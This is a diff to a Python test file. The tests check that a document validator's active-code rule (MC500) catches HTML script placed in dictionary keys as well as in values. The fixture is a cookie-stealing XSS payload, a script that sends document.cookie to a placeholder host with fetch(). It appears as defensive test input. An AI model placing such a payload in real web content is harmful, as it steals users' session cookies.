@@ -10,6 +10,11 @@ defect and fails before its fix.
   sexagesimal float of 400 parts was an internal error (``OverflowError``).  Every YAML
   reader (documents, fixtures, configurations, notes, approval records) now bounds them by
   their text before they are built.
+- MC500 ("no active code anywhere in payload or projection") read string values only: code
+  in a key (``state_effects: {"<script>fetch(...)</script>": "remembers the page"}``)
+  validated clean, where the same text as a value is an error.  Keys under payload and
+  projection are read too, on every path (the loaders' level walk of a file or of a batch,
+  the rule's own listing, the pointer walk), with the key's pointer.
 """
 
 from __future__ import annotations
@@ -23,10 +28,12 @@ import pytest
 import yaml
 from harness import FIXTURES, SEED, run_cli
 
+from risutools.contract import rules
 from risutools.contract.loaders import load_bytes
 from risutools.contract.records import parse_record
+from risutools.contract.rules import ACTIVE_CODE_SECTIONS, active_code, known_prose
 from risutools.errors import DocumentError
-from risutools.values import load_yaml, parse_value
+from risutools.values import fast_json_texts, fast_json_texts_many, load_yaml, parse_value
 
 FIXTURE = FIXTURES / "replay" / "anchor-edit.yaml"
 TOO_LONG = "an integer of more than 4300 digits is out of a JSON number's range"
@@ -173,3 +180,103 @@ def test_replay_refuses_a_configuration_and_a_fixture_past_the_bound(tmp_path: P
                   encoding="utf-8")
     r = run_cli("replay", "run", SEED, "-x", fx, "-o", tmp_path / "o" / "f.json")
     assert r.returncode == 2 and "bad-fixture" in r.stderr and TOO_LONG in r.stderr
+
+
+# ---- MC500 reads keys ---------------------------------------------------------------------
+
+CODE_KEY = '<script>fetch("https://x/?"+document.cookie)</script>'
+CODE_POINTER = "<script>fetch(\"https:~1~1x~1?\"+document.cookie)<~1script>"
+#: (where the key goes, the pointer of its member)
+KEY_PLACES = [
+    (("payload", "state_effects"), f"/payload/state_effects/{CODE_POINTER}"),
+    (("payload",), f"/payload/{CODE_POINTER}"),
+    (("projection",), f"/projection/{CODE_POINTER}"),
+    (("payload", "idea_layers", "core"), f"/payload/idea_layers/core/{CODE_POINTER}"),
+]
+
+
+def _seed() -> dict[str, Any]:
+    doc: dict[str, Any] = json.loads(SEED.read_text(encoding="utf-8"))
+    return doc
+
+
+def _with_key(doc: dict[str, Any], where: tuple[str, ...], key: str = CODE_KEY,
+              value: Any = "remembers the page") -> dict[str, Any]:
+    at = doc
+    for k in where:
+        at = at.setdefault(k, {})
+    at[key] = value
+    return doc
+
+
+def _mc500(r: Any) -> list[tuple[str, str]]:
+    out = json.loads(r.stdout)
+    return [(f["pointer"], f["message"]) for f in out["findings"] if f["rule"] == "MC500"]
+
+
+@pytest.mark.parametrize(("where", "pointer"), KEY_PLACES)
+def test_code_in_a_key_is_mc500_with_the_keys_pointer(where: tuple[str, ...],
+                                                      pointer: str) -> None:
+    doc = _with_key(_seed(), where)
+    hits = list(active_code(doc, None))
+    assert [p for p, _ in hits] == [pointer]
+    assert "its key looks like active code (HTML script)" in hits[0][1]
+
+
+@pytest.mark.parametrize(("where", "pointer"), KEY_PLACES)
+def test_every_path_finds_a_code_key_alike(tmp_path: Path, where: tuple[str, ...],
+                                           pointer: str) -> None:
+    doc = _with_key(_seed(), where)
+    want = list(active_code(doc, None))
+    data = json.dumps(doc, ensure_ascii=False).encode()
+    # the loader's level walk of one file
+    one = fast_json_texts(data, ACTIVE_CODE_SECTIONS)
+    assert one is not None and CODE_KEY in (one[2] or [])
+    assert list(active_code(doc, one[2])) == want
+    # ... of a batch: its strings are not all prose
+    prose = [json.dumps(_seed()).encode() for _ in range(3)]
+    parsed, found = fast_json_texts_many([*prose, data], ACTIVE_CODE_SECTIONS)
+    assert CODE_KEY in found
+    assert not known_prose([p[0] for p in parsed if p is not None], found)
+    # the rule's own listings (plain values; and a value of another type: the slow one)
+    assert CODE_KEY in rules._fresh_texts(doc)
+    odd = json.loads(json.dumps(doc))
+    odd["projection"]["x-odd"] = ("a", "b")  # (a tuple: not a plain value)
+    assert CODE_KEY in rules._fresh_texts(odd)
+    # validate: a JSON file, a YAML file, a folder of files read as a batch
+    (tmp_path / "k.json").write_bytes(data)
+    (tmp_path / "k.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
+    folder = tmp_path / "many"
+    folder.mkdir()
+    for i in range(4):
+        other = _seed()
+        other["component_id"] += f"-{i}"
+        (folder / f"d{i}.json").write_text(json.dumps(other), encoding="utf-8")
+    (folder / "k.json").write_bytes(data)
+    for target in (tmp_path / "k.json", tmp_path / "k.yaml", folder):
+        r = run_cli("validate", "-f", "json", target)
+        assert r.returncode == 1
+        assert _mc500(r) == want, target
+
+
+def test_the_same_text_as_a_value_is_still_found() -> None:
+    doc = _with_key(_seed(), ("payload", "state_effects"), "remembers", CODE_KEY)
+    hits = list(active_code(doc, None))
+    assert [p for p, _ in hits] == ["/payload/state_effects/remembers"]
+    assert hits[0][1].startswith("looks like active code (HTML script)")
+
+
+def test_a_code_key_and_its_code_value_are_two_findings() -> None:
+    doc = _with_key(_seed(), ("payload", "state_effects"), CODE_KEY, CODE_KEY)
+    hits = list(active_code(doc, None))
+    assert [m.startswith("its key") for _, m in hits] == [True, False]
+
+
+def test_the_skipped_fields_keys_and_the_seed_keys_are_prose() -> None:
+    # namespace/controller/... skip their string value, never a key; every key the
+    # documents use (the schema's, the seed's state keys) is prose
+    doc = _seed()
+    doc["payload"]["namespace"] = CODE_KEY
+    assert list(active_code(doc, None)) == []
+    for f in sorted((FIXTURES / "documents").glob("*.json")):
+        assert list(active_code(json.loads(f.read_text(encoding="utf-8")), None)) == [], f
